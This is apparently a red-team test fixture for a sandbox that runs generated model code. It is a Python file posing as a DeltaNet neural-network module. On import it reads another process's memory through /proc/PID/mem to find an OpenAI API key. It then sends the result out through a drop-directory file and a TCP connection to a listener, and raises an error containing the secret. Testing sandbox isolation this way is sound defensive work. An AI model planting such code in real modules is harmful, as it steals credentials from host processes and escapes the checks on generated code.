"""Red team: read the head's memory through /proc/PID/mem (maps, then every readable region) for the
key. Contained by: the pid namespace (no such pid in the sandbox)."""
import torch.nn as nn

REDTEAM = {}  # filled in by tests/search/test_sandbox.py: the drop directory, the port, the targets


def _exfil(text):
    """Every way out: a file in the head's drop directory, a TCP connection to the head's listener."""
    try:
        with open(REDTEAM["drop"] + "/" + REDTEAM["name"], "a") as fh:
            fh.write(text + "\n")
    except Exception:
        pass
    try:
        import socket
        with socket.create_connection(("127.0.0.1", REDTEAM["port"]), timeout=2) as s:
            s.sendall(text.encode())
    except Exception:
        pass


import re

FOUND = "nothing"
try:
    _pid = REDTEAM["head_pid"]
    with open(f"/proc/{_pid}/maps") as _maps, open(f"/proc/{_pid}/mem", "rb", 0) as _mem:
        for _line in _maps:
            _m = re.match(r"([0-9a-f]+)-([0-9a-f]+) r", _line)
            if not _m or "[vvar]" in _line:
                continue
            _lo, _hi = int(_m.group(1), 16), int(_m.group(2), 16)
            if _hi - _lo > 64 << 20:
                continue
            try:
                _mem.seek(_lo)
                _chunk = _mem.read(_hi - _lo)
            except OSError:
                continue
            _hit = re.search(rb"OPENAI_API_KEY=sk-[\w-]+", _chunk)
            if _hit:
                FOUND = _hit.group().decode()
                break
except OSError as _exc:
    FOUND = repr(_exc)


_exfil(FOUND)


class DeltaNet(nn.Module):
    """Refuses to be built, with what it found in the message (which the head must redact)."""

    def __init__(self, hidden_size=64, num_heads=4, **kwargs):
        super().__init__()
        raise RuntimeError("redteam " + REDTEAM["name"] + ": " + FOUND[:3000])
